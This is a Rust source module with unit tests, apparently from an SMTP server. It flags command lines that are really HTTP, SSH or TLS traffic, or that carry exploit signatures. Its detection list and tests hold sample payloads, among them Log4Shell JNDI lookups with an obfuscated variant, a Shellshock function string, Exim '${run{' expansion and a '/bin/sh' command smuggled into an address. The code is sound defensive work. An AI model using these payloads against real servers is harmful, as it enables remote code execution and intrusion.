//! What a command line gives away: code for another program, or the words of another protocol.
//!
//! Only signs that no mail server says: a local part may have `$`, `{` and `|` in it (RFC 5322 section 3.2.3), so one of these alone is none.

use super::Kind;
use memchr::memmem;

/// What this line is a sign of; none for a line of SMTP.
pub fn of(line: &[u8]) -> Option<(Kind, &'static str)> {
    if let Some((_, what)) = OTHERS.iter().find(|(start, _)| starts_with(line, start)) {
        return Some((Kind::OtherProtocol, what));
    }
    // Nearly every line is spared the search: all signs have one of these letters.
    memchr::memchr3(b'$', b'(', b'/', line)?;
    let lower = line.to_ascii_lowercase();
    let found = EXPLOITS.iter().find(|(sign, _)| memmem::find(&lower, sign).is_some());
    found.map(|(_, what)| (Kind::Exploit, *what))
}

/// Is there more to come than this one line?
pub fn ends_session(kind: Kind) -> bool {
    // A web browser made to talk to us sends what it likes in the lines behind: nothing of it is to be heard.
    kind == Kind::OtherProtocol
}

fn starts_with(line: &[u8], start: &[u8]) -> bool {
    line.get(..start.len()).is_some_and(|head| head.eq_ignore_ascii_case(start))
}

const OTHERS: [(&[u8], &str); 14] = [
    (b"GET /", "a request of the web"),
    (b"HEAD /", "a request of the web"),
    (b"POST /", "a request of the web"),
    (b"PUT /", "a request of the web"),
    (b"DELETE /", "a request of the web"),
    (b"OPTIONS ", "a request of the web"),
    (b"PATCH /", "a request of the web"),
    (b"TRACE /", "a request of the web"),
    (b"CONNECT ", "a request to a proxy"),
    (b"PRI * HTTP", "a request of the web"),
    (b"SSH-", "a remote shell"),
    (b"\x16\x03", "TLS where none was begun"),
    (b"\x03\x00\x00", "a remote desktop"),
    (b"JRMI", "remote calls of Java"),
];

const EXPLOITS: [(&[u8], &str); 13] = [
    (b"() {", "a function for a shell"),
    (b"${jndi:", "a name to be looked up by a logger"),
    (b"${${", "a name to be looked up by a logger"),
    (b"${lower:", "a name to be looked up by a logger"),
    (b"${run{", "a program for a mail server"),
    (b"${perl{", "a program for a mail server"),
    (b"${readsocket", "a program for a mail server"),
    (b"${ifs}", "a command for a shell"),
    (b"$(curl", "a command for a shell"),
    (b"$(wget", "a command for a shell"),
    (b"/bin/sh", "a command for a shell"),
    (b"/bin/bash", "a command for a shell"),
    (b"/etc/passwd", "a path to a file of passwords"),
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_what_no_server_says_is_a_sign() {
        let (other, exploit) = (Some(Kind::OtherProtocol), Some(Kind::Exploit));
        for (line, want) in [
            ("EHLO mail.example.org", None),
            ("MAIL FROM:<get/1=a$b{c}|d@example.org>", None),
            ("RCPT TO:<\"odd (){}\"@example.org>", None),
            ("RCPT TO:<options@example.org>", None),
            ("", None),
            ("GET / HTTP/1.1", other),
            ("get /index", other),
            ("POST /cgi-bin/x HTTP/1.0", other),
            ("CONNECT mx.example:25 HTTP/1.1", other),
            ("SSH-2.0-Go", other),
            ("\u{16}\u{3}\u{1}", other),
            ("MAIL FROM:<() { :; }; true>", exploit),
            ("HELO ${jndi:ldap://192.0.2.1/a}", exploit),
            ("EHLO ${${::-j}ndi:dns://192.0.2.1}", exploit),
            ("RCPT TO:<root+${run{x}}@ours.example>", exploit),
            ("RCPT TO:<root+${RUN{x}}@ours.example>", exploit),
            ("RCPT TO:<a;/bin/sh@ours.example>", exploit),
        ] {
            assert_eq!(of(line.as_bytes()).map(|(kind, _)| kind), want, "{line}");
        }
    }
}
